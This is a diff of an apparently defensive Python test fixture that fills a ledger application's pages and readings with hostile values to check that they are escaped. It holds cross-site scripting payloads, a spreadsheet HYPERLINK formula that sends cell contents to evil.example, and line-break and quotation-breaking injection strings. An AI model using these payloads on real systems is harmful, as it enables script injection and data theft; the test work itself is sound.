@@ -5,8 +5,8 @@ Readings are made by hand, so that no cleaning on the way in stands between the 
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from dataclasses import replace
-from itertools import count
 
 from haengbo.knowledge import Knowledge
 from haengbo.ledger import Ledger, accounts, alerts, decisions, erasing, intake, saved
@@ -52,12 +52,20 @@ SCRIPT = f"javascript:alert('{MARK}')"
 #: Counts in a spreadsheet.
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 DAY = "2025-06-04"
-_numbers = count(1)
 
 
-def evil(what: str) -> str:
-    """A value of a field that names where it stood."""
+#: A field's name → the attack that stands in it.
+Evil = Callable[[str], str]
+
+
+def markup(what: str) -> str:
+    """Markup behind the name of the field."""
     return f"{what}{MARKUP}"
+
+
+def formula(what: str) -> str:
+    """A formula, a line of its own and what ends a quotation."""
+    return f"{FORMULA}{what}\r\nATTENDEE:mailto:x@evil.example\t}},\n@string{{x"
 
 
 class _Text:
@@ -73,7 +81,7 @@ class _Text:
         return Span(start, start + len(piece))
 
 
-def hostile_page(number: int, place: str, url: str) -> tuple[Page, Reading]:
+def hostile_page(number: int, place: str, url: str, evil: Evil = markup) -> tuple[Page, Reading]:
     """A page and its reading with an attack in every field that a page or a reader fills."""
     text = _Text()
     title, caption = text.put(evil("제목")), text.put(evil("사진 설명"))
@@ -107,14 +115,14 @@ def hostile_page(number: int, place: str, url: str) -> tuple[Page, Reading]:
         findings=(Finding("odd", evil("알아 둘 것"), title),),
     )
     chain = (Link(evil("전한 이"), event, evil("cue:")),)
-    people = tuple(_actor(who, event) for who in ("사람", "상대"))
+    people = tuple(_actor(who, event, evil) for who in ("사람", "상대"))
     reading = Reading(
         page.stem,
         article,
         "hostile",
         "hostile",
         actors=people,
-        entities=(replace(_actor("곳", event), kind=ActorKind.PLACE),),
+        entities=(replace(_actor("곳", event, evil), kind=ActorKind.PLACE),),
         mentions=tuple(
             Mention(
                 Span(event.start + i, event.start + i + 2),
@@ -129,9 +137,9 @@ def hostile_page(number: int, place: str, url: str) -> tuple[Page, Reading]:
             for i, p in enumerate(people)
         ),
         times=(TimeExpression(Span(event.start, event.start + 3), DAY, None, evil("규칙"), 0.9),),
-        events=(_event(event, place, chain),),
-        statements=(_statement(said, chain),),
-        expectations=(_expectation(hoped),),
+        events=(_event(event, place, chain, evil),),
+        statements=(_statement(said, chain, evil),),
+        expectations=(_expectation(hoped, evil),),
         wording_changes=(
             WordingChange(evil("옛말"), evil("새말"), evil("어디"), remark, evil("규칙"), 0.9),
         ),
@@ -147,7 +155,7 @@ def hostile_page(number: int, place: str, url: str) -> tuple[Page, Reading]:
     return page, reading
 
 
-def _actor(who: str, span: Span) -> Actor:
+def _actor(who: str, span: Span, evil: Evil) -> Actor:
     role = Role(evil("직함"), evil("나라"), span)
     return Actor(
         *(evil(who), ActorKind.PERSON, (evil("딴이름"), evil(who)), (role,)),
@@ -155,7 +163,7 @@ def _actor(who: str, span: Span) -> Actor:
     )
 
 
-def _event(span: Span, place: str, chain: tuple[Link, ...]) -> EventReport:
+def _event(span: Span, place: str, chain: tuple[Link, ...], evil: Evil) -> EventReport:
     return EventReport(
         *("e1", "CONSULT", "meeting", Status.OCCURRED, DAY, evil(place)),
         tuple(Participant(evil(who), ParticipantRole.PARTY) for who in ("사람", "상대")),
@@ -165,14 +173,14 @@ def _event(span: Span, place: str, chain: tuple[Link, ...]) -> EventReport:
     )
 
 
-def _statement(span: Span, chain: tuple[Link, ...]) -> Statement:
+def _statement(span: Span, chain: tuple[Link, ...], evil: Evil) -> Statement:
     return Statement(
         *("s1", (evil("사람"),), Form.DIRECT, span, (evil("상대"),), "e1"),
         *((Stance(evil("상대"), "support"),), chain, DAY, evil("규칙"), 0.9, span),
     )
 
 
-def _expectation(span: Span) -> Expectation:
+def _expectation(span: Span, evil: Evil) -> Expectation:
     return Expectation(
         ExpectationKind.FORECAST,
         evil("사람"),
@@ -188,13 +196,13 @@ def _expectation(span: Span) -> Expectation:
     )
 
 
-def fill(ledger: Ledger, knowledge: Knowledge) -> dict[str, str]:
+def fill(ledger: Ledger, knowledge: Knowledge, evil: Evil = markup) -> dict[str, str]:
     """Fill a ledger; returns what its addresses are made of."""
     pages = [
-        hostile_page(1, "곳", SCRIPT),
-        hostile_page(2, "딴곳", SCRIPT),
-        hostile_page(3, "곳", "https://x.example/'\"><script>alert(1)</script>"),
-        hostile_page(4, "곳", FORMULA),
+        hostile_page(1, "곳", SCRIPT, evil),
+        hostile_page(2, "딴곳", SCRIPT, evil),
+        hostile_page(3, "곳", "https://x.example/'\"><script>alert(1)</script>", evil),
+        hostile_page(4, "곳", FORMULA, evil),
     ]
     for page, reading in pages:
         with ledger.writing() as session:
@@ -203,9 +211,9 @@ def fill(ledger: Ledger, knowledge: Knowledge) -> dict[str, str]:
     collate(ledger, knowledge)
     event = ledger.events(size=1).items[0].id
     expectation = next(iter(ledger.all_expectations())).id
-    number = _decide(ledger, event, expectation)
+    number = _decide(ledger, event, expectation, evil)
     collate(ledger, knowledge)
-    _keep(ledger)
+    _keep(ledger, evil)
     with ledger.writing() as session:
         erasing.erase(session, pages[3][0].sha256, By(evil("지운 이"), evil("까닭")))
     collate(ledger, knowledge)
@@ -225,7 +233,7 @@ def fill(ledger: Ledger, knowledge: Knowledge) -> dict[str, str]:
     }
 
 
-def _decide(ledger: Ledger, event: str, expectation: str) -> int:
+def _decide(ledger: Ledger, event: str, expectation: str, evil: Evil) -> int:
     by = By(evil("정한 이"), evil("까닭"))
     with ledger.writing() as session:
         for field in ("place", "label_ko", "label_en"):
@@ -237,7 +245,7 @@ def _decide(ledger: Ledger, event: str, expectation: str) -> int:
         return decisions.undo(session, 1, by)
 
 
-def _keep(ledger: Ledger) -> None:
+def _keep(ledger: Ledger, evil: Evil) -> None:
     with ledger.writing() as session:
         for who in ("나엮음", "나관리"):
             saved.save_view(session, who, '"><img src=x onerror=alert(1)>', "q=%22%3E%3Cscript%3E")
